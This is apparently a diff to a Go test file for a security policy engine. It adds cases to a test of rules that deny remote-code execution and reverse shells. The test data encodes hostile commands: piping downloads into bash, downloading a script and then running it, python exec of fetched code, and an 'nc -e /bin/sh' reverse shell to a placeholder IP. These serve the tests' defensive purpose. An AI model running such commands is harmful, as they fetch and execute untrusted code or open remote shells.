@@ -65,6 +65,12 @@ func TestRemoteCodeAndReverseShells(t *testing.T) {
 		{Name: "curl | tee | bash", Facts: pipe(packtest.Cmd(0, "wget", "-qO-", "http://x/s"), packtest.Cmd(0, "tee", "log"), packtest.Cmd(0, "bash")), Rule: "BASH_REMOTE_CODE_EXEC", Want: deny},
 		{Name: "bash -c $(curl)", Facts: sub, Rule: "BASH_REMOTE_CODE_EXEC", Want: deny},
 		{Name: "curl | grep is not execution", Facts: pipe(packtest.Cmd(0, "curl", "https://pypi.org/simple/"), packtest.Cmd(0, "grep", "x")), Rule: "BASH_REMOTE_CODE_EXEC"},
+		{Name: "download to file then run", Facts: sdk.Facts{Commands: []sdk.Command{
+			{ID: 1, Name: "curl", Args: []string{"-fsSL", "-o", "i.sh", "https://github.com/x/i.sh"}},
+			{ID: 2, Name: "sh", Args: []string{"./i.sh"}}}}, Rule: "BASH_REMOTE_CODE_EXEC", Want: deny},
+		{Name: "download to file, never run", Facts: sdk.Facts{Commands: []sdk.Command{
+			{ID: 1, Name: "curl", Args: []string{"-o", "i.tgz", "https://github.com/x/i.tgz"}},
+			{ID: 2, Name: "tar", Args: []string{"xzf", "i.tgz"}}}}, Rule: "BASH_REMOTE_CODE_EXEC"},
 		{Name: "python exec(urlopen().read())", Lang: "python", Facts: sdk.Facts{Calls: []sdk.Call{{Name: "exec", Args: []sdk.Value{{Kind: "call", Str: "urllib.request.urlopen(u).read()"}}}}}, Rule: "BASH_REMOTE_CODE_EXEC", Want: deny},
 		{Name: "exec shell fact", Facts: net1(sdk.NetworkUse{Host: "10.0.0.8", Via: "dev_tcp", ExecShell: true}), Rule: "REVERSE_SHELL", Want: deny},
 		{Name: "nc -e", Facts: sdk.Facts{Commands: []sdk.Command{packtest.Cmd(1, "nc", "-e", "/bin/sh", "203.0.113.9", "9001")}}, Rule: "REVERSE_SHELL", Want: deny},
